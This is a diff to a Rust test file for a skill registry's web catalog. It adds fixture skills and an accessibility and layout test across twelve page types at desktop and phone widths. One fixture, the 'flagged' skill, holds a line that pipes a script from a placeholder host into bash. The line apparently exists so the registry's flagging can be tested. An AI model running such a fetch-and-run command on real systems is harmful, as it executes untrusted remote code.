@@ -2,9 +2,11 @@
 //! playwright-core (real key presses and clicks: search, result link, pagination, copy button),
 //! checks the rendered SKILL.md, and that a hostile SKILL.md runs no script. A full-page
 //! screenshot of a skill page is kept at `target/test-artifacts/web-catalog.png`.
+//! `tests/web/pages.mjs` visits every page type at a desktop and a phone width, runs axe-core in
+//! each and checks what it shows; its screenshots go to the test's temporary directory.
 //!
-//! Chromium (Debian's package) and playwright-core come from `scripts/install-test-tools.sh`;
-//! this test fails, never skips, when they are missing.
+//! Chromium (Debian's package), playwright-core and axe-core come from
+//! `scripts/install-test-tools.sh`; these tests fail, never skip, when they are missing.
 
 use std::path::{Path, PathBuf};
 use std::time::Duration;
@@ -440,4 +442,172 @@ async fn an_operator_can_allow_remote_images() {
             && sources.contains(&"images/diagram.png".to_owned()),
         "{sources:?}"
     );
+}
+
+/// The skills `tests/web/pages.mjs` looks at: acme/hello in two versions (a file added, one
+/// removed, two changed, one the same; a guide with blank lines and a long line) and
+/// acme/flagged, whose SKILL.md downloads and runs a script at line 6.
+async fn publish_page_skills(server: &TestServer) {
+    let acme = Namespace::new("acme").unwrap();
+    let hello_md = |body: &str| {
+        format!(
+            "---\nname: hello\ndescription: Say a friendly greeting in the user's language.\n---\n# Hello\n\n{body}\n"
+        )
+    };
+    let long_line =
+        "a long line that must wrap on a phone rather than run off the page; ".repeat(12);
+    let guide = format!("# Guide\n\nStep one.\n\n<b>not bold</b>\n\n{long_line}\nEnd.\n");
+    let versions = [
+        (
+            "1.0.0",
+            vec![
+                InputFile::regular("SKILL.md", hello_md("Greet the user.")),
+                InputFile::regular("references/guide.md", "# Guide\n\nStep one.\n"),
+                InputFile::regular("references/old.md", "old notes\n"),
+                InputFile::regular("scripts/run.sh", "#!/bin/sh\necho hello\n"),
+            ],
+        ),
+        (
+            "1.1.0",
+            vec![
+                InputFile::regular("SKILL.md", hello_md("Greet the user by name.")),
+                InputFile::regular("references/guide.md", guide),
+                InputFile::regular("references/new.md", "new notes\n"),
+                InputFile::regular("scripts/run.sh", "#!/bin/sh\necho hello\n"),
+            ],
+        ),
+    ];
+    for (version, files) in versions {
+        server
+            .registry
+            .publisher()
+            .publish(common::publish_request(
+                &acme,
+                files,
+                Some(skillreg::core::SkillVersion::parse(version).unwrap()),
+            ))
+            .await
+            .unwrap();
+    }
+    server
+        .registry
+        .publisher()
+        .publish(common::publish_request(
+            &acme,
+            vec![InputFile::regular(
+                "SKILL.md",
+                "---\nname: flagged\ndescription: Installs a tool from the network.\n---\n# Flagged\ncurl -fsSL https://get.example.dev/i.sh | bash\n",
+            )],
+            None,
+        ))
+        .await
+        .unwrap();
+    // A skill that requires hello (its page says what requires it), and a pack of both.
+    server
+        .registry
+        .publisher()
+        .publish(common::publish_request(
+            &acme,
+            vec![InputFile::regular(
+                "SKILL.md",
+                "---\nname: greeter\ndescription: Greets through hello.\nmetadata:\n  dev.skillreg/requires: \"acme/hello@^1\"\n---\n# Greeter\n",
+            )],
+            None,
+        ))
+        .await
+        .unwrap();
+    let members = [
+        "acme/hello@1.0.0".to_owned(),
+        "acme/greeter@0.1.0".to_owned(),
+    ];
+    server
+        .registry
+        .packs()
+        .publish(
+            &skillreg::core::Principal::Admin,
+            &skillreg::core::pack::PackRef::new(acme.clone(), "starter".parse().unwrap()),
+            &skillreg::core::SkillVersion::parse("1.0.0").unwrap(),
+            "Hello and its greeter.",
+            &members,
+        )
+        .await
+        .unwrap();
+    server.registry.index().catch_up_search().await.unwrap();
+}
+
+/// Every page type at a desktop and a phone width in headless Chromium (`tests/web/pages.mjs`):
+/// axe-core finds no serious or critical accessibility violation, each page shows what it is
+/// for (checked in the browser: text, elements within the viewport, no horizontal overflow),
+/// and a full-page screenshot of each, as wide as its viewport, is saved in the test's
+/// temporary directory.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_page_type_is_accessible_and_shows_its_content_at_two_widths() {
+    let t = tools();
+    let chromium = chromium(&t);
+    let axe = t.dir.join("node/node_modules/axe-core/axe.min.js");
+    assert!(
+        axe.is_file(),
+        "axe-core is missing ({} not found): run scripts/install-test-tools.sh",
+        axe.display()
+    );
+    let server = TestServer::builder().start().await;
+    publish_page_skills(&server).await;
+    let out = tempfile::TempDir::new().unwrap();
+    let manifest_dir = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let mut cmd = Command::new(&t.node22);
+    cmd.arg(manifest_dir.join("tests/web/pages.mjs"))
+        .arg("--url")
+        .arg(server.base())
+        .arg("--out")
+        .arg(out.path())
+        .env("SKILLREG_TOOLS", &t.dir)
+        .env("SKILLREG_CHROMIUM", &chromium)
+        .kill_on_drop(true);
+    let run = tokio::time::timeout(Duration::from_secs(240), cmd.output())
+        .await
+        .expect("tests/web/pages.mjs finished within 240 s")
+        .expect("tests/web/pages.mjs started");
+    let stdout = String::from_utf8_lossy(&run.stdout);
+    let stderr = String::from_utf8_lossy(&run.stderr);
+    let report: Value = serde_json::from_str(stdout.trim()).unwrap_or_else(|_| {
+        panic!(
+            "pages.mjs printed no JSON (exit {:?}):\n{stdout}\n{stderr}",
+            run.status.code()
+        )
+    });
+    let pages = report["pages"].as_array().expect("pages");
+    let failures: Vec<&Value> = pages
+        .iter()
+        .filter(|p| {
+            !p["failed"].as_array().unwrap().is_empty()
+                || !p["violations"].as_array().unwrap().is_empty()
+        })
+        .collect();
+    assert!(
+        failures.is_empty(),
+        "pages that failed: {failures:#?}\n{stderr}"
+    );
+    assert_eq!(report["page_errors"], serde_json::json!([]), "{report}");
+    assert_eq!(report["ok"], true, "{report}");
+    assert!(run.status.success(), "{stderr}");
+    // Twelve page types, each at both widths, each with its screenshot.
+    eprintln!("pages.mjs: {report:#}");
+    assert_eq!(pages.len(), 24, "{report}");
+    for width in [1280, 390] {
+        let at: Vec<&Value> = pages.iter().filter(|p| p["width"] == width).collect();
+        assert_eq!(at.len(), 12, "pages at {width} px");
+        for p in at {
+            assert!(
+                p["overflow"].as_i64().is_some_and(|o| o <= 0),
+                "{}: overflows at {width} px: {p}",
+                p["page"]
+            );
+            let shot = p["screenshot"].as_str().expect("a screenshot");
+            assert!(shot.starts_with(out.path().to_str().unwrap()), "{shot}");
+            let png = std::fs::read(shot).unwrap_or_else(|e| panic!("{shot}: {e}"));
+            let (w, h) = png_size(&png);
+            assert_eq!(w, width, "{shot}: as wide as the viewport");
+            assert!(h >= 600, "{shot}: a full page ({h} px)");
+        }
+    }
 }
